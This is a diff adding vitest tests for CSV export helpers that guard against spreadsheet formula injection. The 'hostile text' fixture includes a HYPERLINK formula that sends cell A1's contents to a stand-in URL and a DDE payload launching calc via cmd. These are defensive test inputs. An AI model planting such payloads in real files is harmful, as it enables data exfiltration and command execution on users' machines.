@@ -3,9 +3,11 @@ import { describe, expect, test } from 'vitest';
 import {
 	csvColumns,
 	fromCsvRecord,
+	guardFormula,
 	toCsv,
 	toCsvRecord,
 	type CsvColumn,
+	unguardFormula,
 } from '../../src/lib/data/csv.ts';
 import { downloadSchema, type JsonSchema } from '../../src/lib/data/json-schema.ts';
 
@@ -131,5 +133,50 @@ describe('toCsv', () => {
 			row,
 			{ ...row, id: 'b', aliases: [], licensed: true },
 		]);
+	});
+});
+
+describe('guardFormula', () => {
+	test('returns a cell a spreadsheet would run as a formula with a quote mark before it', () => {
+		expect(
+			['=1+1', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx', "'=1", "''-1"].map(guardFormula),
+		).toEqual(["'=1+1", "'+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "''=1", "'''-1"]);
+	});
+
+	test('returns any other cell as it is', () => {
+		for (const cell of ['', 'a=1', ' =1', "'quoted'", '1', '[{"a":"=1"}]', 'x; -y']) {
+			expect(guardFormula(cell), cell).toBe(cell);
+		}
+	});
+});
+
+describe('unguardFormula', () => {
+	test('returns the cell as it was before guardFormula', () => {
+		for (const cell of ['=1+1', '-2', "'=1", "''+1", "'quoted'", 'plain', "'", '']) {
+			expect(unguardFormula(guardFormula(cell)), cell).toBe(cell);
+		}
+	});
+});
+
+describe('toCsv with hostile text', () => {
+	const hostile = {
+		...row,
+		id: 'h',
+		note: '=HYPERLINK("https://example.org/?"&A1,"Click")',
+		publisher: "@SUM(1+1)*cmd|' /C calc'!A0",
+		aliases: ['-2+3', 'x'],
+	};
+	const csv = toCsv([hostile], columns);
+
+	test('returns no cell that starts with a formula character', () => {
+		const parsed = Papa.parse<string[]>(csv.slice(1), { header: false, skipEmptyLines: true });
+		for (const cell of parsed.data.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+		expect(csv).toContain('"\'=HYPERLINK(""https://example.org/?""&A1,""Click"")"');
+		expect(csv).toContain(",'-2+3; x,");
+	});
+
+	test('returns text a CSV parser reads back to the same row', () => {
+		const parsed = Papa.parse<Record<string, string>>(csv, { header: true });
+		expect(parsed.data.map((r) => fromCsvRecord(r, columns))).toEqual([hostile]);
 	});
 });
